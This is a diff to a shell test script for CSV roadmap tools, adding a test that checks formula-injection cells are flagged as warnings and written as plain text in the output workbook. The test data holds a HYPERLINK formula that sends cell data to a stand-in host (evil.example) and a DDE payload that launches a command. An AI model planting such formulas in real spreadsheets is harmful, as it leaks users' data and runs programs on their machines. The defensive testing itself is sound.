@@ -152,7 +152,39 @@ run roadmap-validate -r "$ROADMAP" "$LOOPS" --format json
 expect_status 0 "a directory with symlink loops"
 expect_json "[f['path'] for f in d['files']]" "['$LOOPS/a/b/DOU-01.csv']"
 
-# --- no program changed a byte of its inputs
+# --- formula injection: text a spreadsheet would run stays text
+# The merged CSV keeps it exactly (it is the school's data) and every program
+# names the cell (formula-like); the workbook writes it as a string.
+$PY - "$WORK/formulas.csv" <<'PY'
+import csv, sys
+rows = [["org_id", "period", "activity_id", "status", "value", "evidence", "comment"],
+        ["DOU-01", "2026", "1.2", "done", "", '=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)"],
+        ["DOU-01", "2026", "1.3", "done", "", "+cmd|' /C calc'!A0", " -2+3"]]
+csv.writer(open(sys.argv[1], "w", newline=""), lineterminator="\n").writerows(rows)
+PY
+run roadmap-merge -r "$ROADMAP" "$WORK/formulas.csv" -o "$WORK/formulas-merged.csv" --lang en
+expect_status 0 "formula-like cells are warnings"
+expect_in err "formulas.csv:2: warning [formula-like] column «evidence»: the cell starts like a formula: «=HYPERLINK("
+expect_in err "formulas.csv:3: warning [formula-like] column «comment»: the cell starts like a formula: «-2+3»"
+checks=$((checks + 1))
+got=$($PY -c 'import csv, sys; print([(r["evidence"], r["comment"]) for r in csv.DictReader(open(sys.argv[1]))])' "$WORK/formulas-merged.csv")
+want=$($PY -c 'print([("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "@SUM(1+1)"), ("+cmd|'"'"' /C calc'"'"'!A0", "-2+3")])')
+[ "$got" = "$want" ] || fail "the merged CSV changed formula-like text: $got"
+run roadmap-validate -r "$ROADMAP" "$WORK/formulas-merged.csv" --format json
+expect_json "[x['code'] for x in d['files'][0]['findings']].count('formula-like')" 4
+run roadmap-render -r "$ROADMAP" "$WORK/formulas-merged.csv" -o "$WORK/formulas.xlsx" --as-of 2026-12-31 -q
+expect_status 0 "render of formula-like text"
+checks=$((checks + 1))
+got=$($PY -c 'import sys, openpyxl
+wb = openpyxl.load_workbook(sys.argv[1])
+cells = [c for ws in wb.worksheets for r in ws.iter_rows() for c in r]
+school = [c for c in cells if isinstance(c.value, str) and ("evil" in c.value or "calc" in c.value or "SUM(1+1)" in c.value or c.value == "-2+3")]
+print(sorted({c.data_type for c in school}), len(school) >= 4)' "$WORK/formulas.xlsx")
+[ "$got" = "['s'] True" ] || fail "a school's formula-like text in the workbook: $got"
+
+# --- no program changed a byte of its inputs (the template writer included)
+run roadmap-template -r "$ROADMAP" --orgs "$SRC/examples/orgs.csv" --period 2026 --out-dir "$WORK/templates" -q
+expect_status 0 "templates"
 sums_after=$(cd "$SRC" && find tests/hostile examples data -type f -print0 | sort -z | xargs -0 sha256sum)
 checks=$((checks + 1))
 [ "$sums_before" = "$sums_after" ] || fail "an input changed: $(diff <(echo "$sums_before") <(echo "$sums_after"))"
